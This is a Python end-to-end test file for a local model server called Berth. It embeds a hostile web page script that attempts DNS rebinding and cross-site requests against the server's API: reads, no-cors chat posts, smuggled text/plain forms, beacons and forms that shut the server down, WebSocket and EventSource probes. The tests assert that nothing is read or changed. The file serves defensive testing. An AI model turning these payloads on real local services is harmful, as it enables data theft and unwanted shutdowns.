# SPDX-License-Identifier: Apache-2.0
"""Hostile web pages in a real Chromium: they read nothing of Berth and change nothing (issue 7)."""

import json
import unittest

from browser import Author, Browser, Naive, Rebinding
from harness import E2eTest

CHAT = '{"model":"chat","messages":[{"role":"user","content":"Hi"}]}'
STOP = "/api/v1/servers/chat/stop?wait=0"
READS = ["/v1/models", "/health", "/api/v1/status", "/api/v1/explain",
         "/api/v1/servers/chat/logs", "/nowhere"]

# Each attempt tells what it could read, or "". A timer ends what neither answers nor fails.
SCRIPT = """<!doctype html><title>evil</title><body><script>
const results = {};
const base = BASE, reads = READS, chat = CHAT, stop = STOP;
function limited(promise) {
  return Promise.race([promise, new Promise(done => setTimeout(() => done(""), 20000))]);
}
async function attempt(name, action) {
  try { results[name] = String(await limited(action())); } catch (error) { results[name] = ""; }
}
const text = async reply => (await reply).ok ? (await reply).text() : "";
function post(path, body, type, mode) {
  const headers = type ? {"Content-Type": type} : {};
  return text(fetch(base + path, {method: "POST", body, headers, mode}));
}
function events() {
  return new Promise(done => {
    const source = new EventSource(base + "/api/v1/events?after=0");
    source.onopen = () => done("open"); source.onerror = () => done("");
  });
}
function socket() {
  return new Promise(done => {
    const opened = new WebSocket(base.replace("http", "ws") + "/api/v1/events");
    opened.onopen = () => done("open"); opened.onerror = () => done("");
  });
}
function picture() {
  return new Promise(done => {
    const image = new Image();
    image.onload = () => done("loaded"); image.onerror = () => done("");
    image.src = base + "/v1/models";
  });
}
function form(path, enctype, name, value) {
  return new Promise(done => {
    const frame = document.createElement("iframe");
    frame.name = "f" + Math.random(); document.body.append(frame);
    const made = document.createElement("form");
    Object.assign(made, {method: "POST", action: base + path, enctype, target: frame.name});
    const field = document.createElement("input");
    field.name = name; field.value = value; made.append(field); document.body.append(made);
    frame.onload = () => {
      try { done(frame.contentDocument.body.textContent.includes("error") ? "" : "read"); }
      catch (error) { done(""); }
    };
    made.submit();
  });
}
async function run() {
  for (const path of reads) {
    await attempt("read " + path, () => text(fetch(base + path)));
    await attempt("no-cors " + path, () => text(fetch(base + path, {mode: "no-cors"})));
  }
  await attempt("chat as json", () => post("/v1/chat/completions", chat, "application/json"));
  await attempt("chat as text", () => post("/v1/chat/completions", chat, "text/plain", "no-cors"));
  await attempt("chat without a type",
                () => post("/v1/chat/completions", new Blob([chat]), "", "no-cors"));
  await attempt("stop", () => post(stop, "", "application/json"));
  await attempt("stop without preflight", () => post(stop, "", "text/plain", "no-cors"));
  await attempt("beacon", async () => {
    navigator.sendBeacon(base + "/api/v1/shutdown", "x"); return "";
  });
  await attempt("form as text", () => form("/v1/chat/completions", "text/plain",
                                           chat.slice(0, -1) + ',"x":"', '"}'));
  await attempt("form", () => form("/api/v1/shutdown", "application/x-www-form-urlencoded",
                                   "a", "b"));
  await attempt("form with files", () => form(stop, "multipart/form-data", "a", "b"));
  await attempt("events", events);
  await attempt("socket", socket);
  await attempt("picture", picture);
  await fetch("REPORT", {method: "POST", mode: "no-cors", body: JSON.stringify(results)});
}
run();
</script>"""


def page(base, report):
    texts = {"BASE": json.dumps(base), "READS": json.dumps(READS), "CHAT": json.dumps(CHAT),
             "STOP": json.dumps(STOP)}
    text = SCRIPT
    for mark, value in texts.items():
        text = text.replace(f"= {mark}", f"= {value}")
    return text.replace("REPORT", report)


class Pages(E2eTest):
    def setUp(self):
        self.running = self.berth(wanted="on_demand").up()
        self.naive = Naive()
        self.addCleanup(self.naive.close)

    def open(self, url, rules):
        browser = Browser(url, rules)
        self.addCleanup(browser.close)

    def rebound(self, victim):
        """evil.example is first its author, then `victim`. Returns what the page could read."""
        author = Author("")
        self.addCleanup(author.close)
        rebinding = Rebinding(page(f"http://evil.example:{victim}",
                                   f"http://127.0.0.1:{author.port}/report"), victim)
        self.addCleanup(rebinding.close)
        self.open(f"http://evil.example:{victim}/", "MAP evil.example 127.0.0.2")
        report = author.wait()
        self.assertGreater(rebinding.passed_on, 3, "the attack did not reach the victim")
        return report

    def crossed(self, host, victim):
        """A page of evil.example asks the victim by its own name."""
        author = Author("")
        self.addCleanup(author.close)
        author.page = page(f"http://{host}:{victim}", f"http://127.0.0.1:{author.port}/report")
        self.open(f"http://evil.example:{author.port}/", "MAP evil.example 127.0.0.1")
        return author.wait()

    def assert_nothing_happened(self, report):
        self.assertGreater(len(report), 20)
        self.assertEqual({}, {name: read for name, read in report.items() if read})
        self.assertIsNone(self.running.process.poll(), "Berth is gone")
        self.assertNotIn("job_arrived", self.running.steps())
        self.assertEqual([], self.running.starts("chat"))
        self.assertEqual("on_demand", self.running.server("chat")["wanted"])

    def test_a_rebound_name_reads_nothing_and_changes_nothing(self):
        self.assert_nothing_happened(self.rebound(self.running.port()))

    def test_a_name_rebound_to_a_front_port_reads_nothing_and_changes_nothing(self):
        self.assert_nothing_happened(self.rebound(self.running.server("chat")["front_port"]))

    def test_a_foreign_page_and_its_forms_read_nothing_and_change_nothing(self):
        for host in ("127.0.0.1", "localhost"):
            with self.subTest(host):
                self.assert_nothing_happened(self.crossed(host, self.running.port()))

    def test_the_same_pages_succeed_where_there_is_no_door(self):
        read = self.rebound(self.naive.port)
        self.assertIn("NAIVE", read["read /api/v1/status"])
        self.assertIn(STOP, self.naive.changed)
        self.naive.changed.clear()
        self.crossed("127.0.0.1", self.naive.port)
        for path in ("/v1/chat/completions", "/api/v1/shutdown", STOP):
            self.assertIn(path, self.naive.changed, "a form reaches it without being asked")


if __name__ == "__main__":
    unittest.main()
